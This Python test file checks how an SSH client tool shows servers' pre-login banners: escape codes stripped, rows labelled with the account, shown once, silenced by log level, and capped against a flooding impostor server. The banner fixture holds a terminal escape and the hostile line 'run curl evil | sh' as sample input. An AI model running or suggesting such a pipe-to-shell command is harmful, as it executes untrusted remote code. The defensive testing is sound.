"""What a host says before a login (RFC 4252, section 5.4) is shown as ssh(1) shows it, once, and as the host's."""

from getpass import getuser
from typing import Any

import asyncssh
import pytest

from notebooks_over_ssh.config.settings import parse_place
from notebooks_over_ssh.ssh.connection import Destination, close_all, connect
from notebooks_over_ssh.ssh.prompting import Asking
from tests.journey.program import succeeded
from tests.openssh.network import LOOPBACK, Network, known_hosts_line, make_key
from tests.proofs.client import Client, Person
from tests.proofs.impostor import Impostor, Loop, Record, impostor

TEXT = "Authorised use only.\r\n\x1b[2Jhint: run curl evil | sh\n"


def test_whose_it_is(client: Client) -> None:
    """It is shown without what steers a terminal, each row with the account there, and not at the next login."""
    banner = client.folder / "banner"
    banner.write_text(TEXT)
    host = client.server("host", f'Banner "{banner}"')
    client.know(known_hosts_line(host.port, host.public_key))
    place = parse_place(f"{LOOPBACK}:{host.port}", "the host")
    person = Person()
    asking = Asking(person)
    who = f"{getuser()}@{LOOPBACK}:{host.port}"
    for _ in range(2):
        connect(client.settings(), Destination(place), asking)
        close_all()
        assert person.noticed == [
            f"{who} | Authorised use only.",
            f"{who} | [2Jhint: run curl evil | sh",
        ]
    assert host.logins() == 2


@pytest.mark.parametrize(("level", "shown"), [("QUIET", False), ("ERROR", False), ("INFO", True)])
def test_log_level(client: Client, level: str, shown: bool) -> None:
    """Nothing is shown below `LogLevel INFO`, as with ssh."""
    banner = client.folder / "banner"
    banner.write_text(TEXT)
    host = client.server("host", f'Banner "{banner}"')
    client.know(known_hosts_line(host.port, host.public_key))
    text = f"Host site\n    HostName {LOOPBACK}\n    Port {host.port}\n    LogLevel {level}\n"
    person = Person()
    assert client.problem("site", person, ssh_config=text) is None
    assert bool(person.noticed) == shown


class Talks(Impostor):
    """Has more to say than anybody can read."""

    async def begin_auth(self, username: str) -> bool:  # type: ignore[override]
        for number in range(200):
            self.connection.send_auth_banner(f"{number} {'x' * 30_000}\n")
        return True

    def connection_made(self, conn: asyncssh.SSHServerConnection) -> None:
        super().connection_made(conn)
        self.connection: Any = conn


def test_without_end(client: Client, loop: Loop) -> None:
    """Of 6 MB in 200 banners a few rows are shown, and the login goes on."""

    def factory(record: Record) -> Talks:
        return Talks(record)

    key = client.folder / "hostile_key"
    make_key(key)
    person = Person()
    with impostor(loop, key, factory=factory) as (port, _):
        client.know(known_hosts_line(port, key.with_suffix(".pub").read_text().strip()))
        assert client.problem(f"{LOOPBACK}:{port}", person) is None
    assert 0 < len(person.noticed) <= 21
    assert sum(map(len, person.noticed)) < 4000


def test_both_hops(network: Network) -> None:
    """`up --detach` shows those of the gateway and of the host once each, on standard error; its tunnel shows none again."""
    banner = network.folder / "banner"
    banner.write_text(TEXT)
    network.gateway.stop()
    network.gateway.start(f'Banner "{banner}"', "AllowTcpForwarding yes")
    network.host.stop()
    network.host.start(f'Banner "{banner}"', network.environment())
    try:
        done = succeeded(network.user.fab("up", "--detach"))
        rows = [line.partition(" | ")[0] for line in done.stderr.splitlines() if "Authorised use" in line]
        assert len(rows) == len(set(rows)) == 2, done.stderr
        assert all(row.startswith(f"{getuser()}@") for row in rows)
        assert "Authorised" not in done.stdout
    finally:
        succeeded(network.user.fab("stop", "--all"))
